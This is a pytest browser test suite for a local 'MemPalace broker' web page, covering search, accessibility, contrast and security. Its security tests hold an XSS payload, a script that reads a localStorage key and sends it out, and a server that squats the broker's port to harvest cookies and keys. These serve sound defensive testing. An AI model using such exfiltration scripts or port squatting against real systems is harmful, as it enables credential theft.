"""The page in a real browser: what a person does there, and how it looks. tests/pictures.py keeps screenshots."""

from __future__ import annotations

import itertools
import json
import os
import subprocess
import sys
import tempfile
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, HTTPServer
from pathlib import Path
from typing import ClassVar
from urllib.parse import urlsplit

import pytest

from tests.background import BackgroundServer
from tests.browser import Browser, find_browser
from tests.harness import World, eventually
from tests.pictures import pictures

pytestmark = [pytest.mark.engine, pytest.mark.xdist_group("page")]  # one world and one browser for all

NOBODY = 65534
STEALING = b"<script>fetch('/page/stolen?' + localStorage.getItem('mempalace-page-key'))</script>"
ASK = """
import encodings.idna, http.client, os, sys  # all of them before it is another user
port, uid, cookie, key = sys.argv[1:]
os.setuid(int(uid))
for path in ("/page/status", "/page/proof?0"):
    connection = http.client.HTTPConnection("127.0.0.1", int(port), timeout=20)
    connection.request("GET", path, headers={"Cookie": cookie, "Authorization": f"Page {key}"})
    print(connection.getresponse().status)
"""
SHOWN = "!document.getElementById('main').hidden"
MARKUP = "<img src=x onerror=\"document.title='owned'\"><script>document.title='owned'</script>"


@pytest.fixture(scope="module")
def world(warm: World) -> World:
    find_browser()
    shim = warm.processes[0]
    for wing, room, text in (
        ("garden", "roses", "the red roses need water every morning"),
        ("garden", "roses", "cut the roses back in February"),
        ("garden", "pond", "the pond froze on the second of January"),
        ("kitchen", "bread", f"the dough rests for nine hours {MARKUP}"),
    ):
        shim.call_tool("add_drawer", wing=wing, room=room, content=text)
    return warm


@pytest.fixture(scope="module")
def browser() -> Iterator[Browser]:
    with tempfile.TemporaryDirectory(prefix="mpb-browser-") as folder, Browser(Path(folder) / "profile") as made:
        made.size(1200, 900)
        yield made


@pytest.fixture
def page(world: World, browser: Browser) -> Iterator[Browser]:
    """The page, opened as a person would."""
    browser.problems.clear()
    browser.go("about:blank")
    browser.go(link(world))
    browser.until(SHOWN)
    yield browser
    assert browser.problems == []
    assert browser.evaluate("document.title") == "MemPalace broker"


def link(world: World) -> str:
    return str(json.loads(world.cli("open", "--json").stdout)["url"])


def search(page: Browser, words: str) -> None:
    page.evaluate(f"document.getElementById('query').value = {json.dumps(words)}")
    page.evaluate("document.getElementById('query').focus()")
    page.press("Enter", "Enter")


def test_the_facts_of_the_broker(world: World, page: Browser) -> None:
    world.processes[0].call_tool("kg_stats")  # else its shim may wait for a reason to come back
    assert str(world.palace) in page.text("header")
    assert "serving" in page.text("#state")
    page.until("document.getElementById('sessions').innerText.includes('harness')")
    assert "palace" in page.text("#lanes")
    assert f"pid {world.broker().pid}" in page.text("#about")
    page.until("document.querySelectorAll('#chart-calls rect').length > 0")
    calls = page.text("#tiles")
    world.processes[0].call_tool("kg_stats")
    page.until(f"document.getElementById('tiles').innerText !== {json.dumps(calls)}")


def test_wings_and_rooms(page: Browser) -> None:
    page.until("document.querySelectorAll('#rooms details').length === 2")
    assert page.text("#rooms").startswith("2 wings, 4 drawers")
    first = page.text("#rooms details[open]").split()
    assert first[:5] == ["garden", "2", "rooms,", "3", "drawers"]
    assert "roses" in first


def test_a_search(page: Browser) -> None:
    search(page, "what do the roses need")
    page.until("document.querySelectorAll('#results li').length > 1")
    assert "garden / roses" in page.text("#results li")
    page.until("document.querySelectorAll('#wing option').length === 3")
    page.evaluate("document.getElementById('wing').value = 'kitchen'")
    search(page, "bread")
    page.until("document.querySelectorAll('#results li').length === 1")
    assert MARKUP in page.text("#results"), "what the memory holds is text, never markup"
    assert page.evaluate("document.querySelectorAll('#results img, #results script').length") == 0


def test_health_has_the_hints_of_doctor(page: Browser) -> None:
    page.until("document.getElementById('health').innerText.includes('passed')", 60)


def test_nothing_comes_from_elsewhere(page: Browser) -> None:
    page.until("document.getElementById('health').innerText.includes('passed')", 60)
    hosts = {urlsplit(url).hostname for url in page.requests if not url.startswith(("about:", "data:"))}
    assert hosts == {"127.0.0.1"}
    assert page.evaluate("document.cookie") == "", "no script reads the cookie"
    assert "#" not in page.evaluate("location.href"), "the code is gone from the address"


def test_it_stays_open_through_a_restart_of_the_broker(world: World, page: Browser) -> None:
    before = world.broker().pid
    assert world.cli("restart").returncode == 0
    page.until(f"!document.getElementById('about').innerText.includes('pid {before},')")
    page.until(SHOWN)
    page.go("about:blank")
    page.go(link(world).partition("#")[0])
    page.until(SHOWN)
    page.problems.clear()  # what it asked while nobody listened


def test_without_a_code_or_with_an_old_one_it_says_what_to_do(world: World, page: Browser) -> None:
    used = link(world)
    page.evaluate("localStorage.clear()")
    for url in (used.partition("#")[0], used[:-1] + ("0" if used[-1] != "0" else "1")):
        page.go("about:blank")
        page.go(url)
        page.until("document.getElementById('notice').innerText.includes('mempalace-broker open')")
        assert page.evaluate("document.getElementById('main').hidden")
    page.problems.clear()  # 401


def test_it_says_when_the_broker_is_gone(world: World, page: Browser) -> None:
    assert world.cli("stop").returncode == 0
    page.until("document.getElementById('notice').innerText.includes('does not answer')")
    assert world.cli("ensure").returncode == 0
    page.until("document.getElementById('notice').hidden")
    page.problems.clear()


class Squatter(BaseHTTPRequestHandler):
    """Another user's program on the broker's port.

    Attributes:
        shown: the keys that it got to see. cookies: the same. stolen: what its own page sent it.
    """

    shown: ClassVar[list[str | None]] = []
    cookies: ClassVar[list[str]] = []
    stolen: ClassVar[list[str]] = []

    def do_GET(self) -> None:
        self.shown.append(self.headers["Authorization"])
        self.cookies.extend(filter(None, [self.headers["Cookie"]]))
        self.stolen.extend([self.path.partition("?")[2]] if self.path.startswith("/page/stolen") else [])
        self.send_response(200)
        self.send_header("Content-Type", "text/html")
        self.end_headers()
        self.wfile.write(STEALING if self.path == "/" else b"0" * 64)

    def log_message(self, *_: object) -> None:
        """Say nothing."""


def test_whoever_takes_its_port_gets_no_key(world: World, page: Browser) -> None:
    port = urlsplit(link(world)).port
    assert world.cli("stop").returncode == 0
    with BackgroundServer(HTTPServer(("127.0.0.1", port or 0), Squatter)):
        eventually(lambda: len(Squatter.shown) > 1, what="a page that goes on asking")
        page.until("document.getElementById('notice').innerText.includes('does not answer')")
    assert set(Squatter.shown) == {None}
    assert world.cli("ensure").returncode == 0
    page.until("document.getElementById('notice').hidden")
    page.problems.clear()


def asked_by(uid: int, port: int) -> list[str]:
    """What a program of that user is answered to what the squatter got."""
    argv = [sys.executable, "-c", ASK, str(port), str(uid), Squatter.cookies[-1], Squatter.stolen[-1]]
    return subprocess.run(argv, check=True, capture_output=True, text=True, timeout=30).stdout.split()


def test_what_the_page_gives_to_whoever_took_its_port_is_of_no_use_to_another_user(world: World, page: Browser) -> None:
    """Loaded again, it sends the cookie, and the other user's script reads the key."""
    port = urlsplit(link(world)).port or 0
    assert world.cli("stop").returncode == 0
    Squatter.cookies.clear()
    with BackgroundServer(HTTPServer(("127.0.0.1", port), Squatter)):
        page.call("Page.reload")
        eventually(lambda: Squatter.stolen, what="the key, read by a script of the same origin")
        page.go("about:blank")
    assert world.cli("ensure").returncode == 0
    assert urlsplit(link(world)).port == port, "the same port, so that the cookie would count"
    assert asked_by(os.geteuid(), port) == ["200", "200"], "our own programs may read all that we may"
    if os.geteuid() == 0 and Path("/proc/net/tcp").exists():
        assert asked_by(NOBODY, port) == ["403", "403"]
    page.go(link(world))
    page.until(SHOWN)
    page.problems.clear()


def test_it_can_be_used_without_sight_or_mouse(page: Browser) -> None:
    page.until("document.querySelectorAll('#rooms details').length")
    nodes = page.call("Accessibility.getFullAXTree")["nodes"]
    roles = [(node["role"]["value"], node.get("name", {}).get("value", "")) for node in nodes if not node["ignored"]]
    controls = {"button", "searchbox", "combobox", "textbox", "image", "figure", "meter"}
    assert [role for role, name in roles if role in controls - {"figure"} and not name] == []
    assert {"main", "banner", "search"} <= {role for role, _ in roles}
    assert ("searchbox", "Words or a question") in roles
    headings = page.evaluate("[...document.querySelectorAll('h1, h2, h3')].map((node) => Number(node.tagName[1]))")
    assert headings[0] == 1
    assert all(after <= before + 1 for before, after in itertools.pairwise(headings))


@pytest.mark.parametrize("dark", [False, True], ids=["light", "dark"])
@pytest.mark.parametrize("width", [1200, 360])
def test_how_it_looks(page: Browser, tmp_path: Path, width: int, dark: bool) -> None:
    page.size(width, 900, dark=dark)
    page.until("document.querySelectorAll('#rooms details').length")
    page.until("document.getElementById('health').innerText.includes('passed')", 60)
    search(page, "roses")
    page.until("document.querySelectorAll('#results li').length")
    assert page.evaluate("document.documentElement.scrollWidth <= innerWidth"), "nothing sticks out"
    assert page.evaluate(CONTRASTS) == [], "all text can be read"
    picture = pictures(tmp_path) / f"page-{width}-{'dark' if dark else 'light'}.png"
    page.screenshot(picture)
    eventually(lambda: picture.stat().st_size > 20_000, what="a picture")


# The texts whose contrast with what is behind them is below 4.5 (WCAG AA).
CONTRASTS = """
(() => {
  const linear = (v) => (v <= 0.04045 ? v / 12.92 : ((v + 0.055) / 1.055) ** 2.4);
  const light = (rgb) => [0.2126, 0.7152, 0.0722].reduce((sum, part, i) => sum + part * linear(rgb[i] / 255), 0);
  const colour = (text) => text.match(/[\\d.]+/g).map(Number);
  const behind = (node) => {
    for (; node; node = node.parentElement) {
      const found = colour(getComputedStyle(node).backgroundColor);
      if (found.length < 4 || found[3] > 0) return found;
    }
    return [255, 255, 255];
  };
  const bad = [];
  for (const node of document.querySelectorAll("body *")) {
    const own = [...node.childNodes].some((child) => child.nodeType === 3 && child.textContent.trim());
    if (!own || !node.checkVisibility()) continue;
    const [one, other] = [light(colour(getComputedStyle(node).color)), light(behind(node))].sort((a, b) => b - a);
    if ((one + 0.05) / (other + 0.05) < 4.5) bad.push(node.textContent.trim().slice(0, 40));
  }
  return bad;
})()
"""
